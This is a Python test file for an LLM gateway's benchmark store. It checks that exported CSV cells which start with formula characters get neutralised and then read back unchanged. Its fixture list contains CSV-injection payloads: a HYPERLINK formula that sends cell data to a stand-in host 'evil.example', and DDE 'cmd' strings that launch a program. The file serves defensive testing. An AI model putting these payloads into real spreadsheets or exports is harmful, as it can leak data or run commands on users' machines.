"""`benchmark_results.csv` is safe to open in a spreadsheet, and reads back what was written."""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

from llm_gateway.bench.records import RequestRecord
from llm_gateway.bench.store import RESULTS_CSV, RunDir
from tests.bench.conftest import make_record

# What a spreadsheet would run (OWASP's CSV injection), plus text that only looks like it.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
]


def _records() -> list[RequestRecord]:
    texts = [*FORMULAS, "'already quoted", "''twice", "plain text", "a=b+c"]
    return [
        make_record(
            prompt=text,
            prompt_index=i,
            model=FORMULAS[i % len(FORMULAS)],
            status="http_5xx",
            error=text,
            output_preview=text,
            cost_usd=-1.5,  # a number stays a number, sign and all
        )
        for i, text in enumerate(texts)
    ]


def test_text_cells_are_neutralised_and_read_back_unchanged(tmp_path: Path) -> None:
    run = RunDir(tmp_path)
    records = _records()
    for record in records:
        run.add(record)
    run.close()
    with run.file(RESULTS_CSV).open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    for row, record in zip(rows, records, strict=True):
        for column in ("prompt", "model", "error", "output_preview"):
            cell, text = row[column], getattr(record, column)
            if text.startswith(("=", "+", "-", "@", "\t", "\r", "'")):
                assert cell == "'" + text, (column, cell)
            else:
                assert cell == text
        assert row["cost_usd"] == "-1.5"
    assert run.records() == records


def test_importing_the_package_leaves_the_csv_field_limit_alone() -> None:
    code = (
        "import csv; before = csv.field_size_limit(); "
        "import llm_gateway.bench.store, llm_gateway.bench.prompts, llm_gateway.api.benchmarks; "
        "assert csv.field_size_limit() == before, csv.field_size_limit()"
    )
    subprocess.run([sys.executable, "-c", code], check=True)
